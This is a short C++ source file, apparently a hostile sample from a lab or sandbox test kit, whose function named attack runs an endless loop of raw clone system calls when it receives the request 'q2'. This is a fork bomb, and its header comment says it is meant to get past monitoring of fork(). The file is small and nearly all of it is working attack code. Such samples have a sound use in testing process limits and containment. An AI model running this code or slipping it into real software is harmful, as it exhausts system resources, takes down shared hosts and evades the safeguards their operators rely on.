// Makes processes without end, past what watches fork().
#include <sys/syscall.h>
#include <unistd.h>

#include <csignal>
#include <string>

#include "labkit/sqlite/sqlite.hpp"

static void attack(sqlite::Connection&, const std::string& request) {
    if (request != "q2") {
        return;
    }
    while (true) {
        syscall(SYS_clone, SIGCHLD, 0, 0, 0, 0);
    }
}
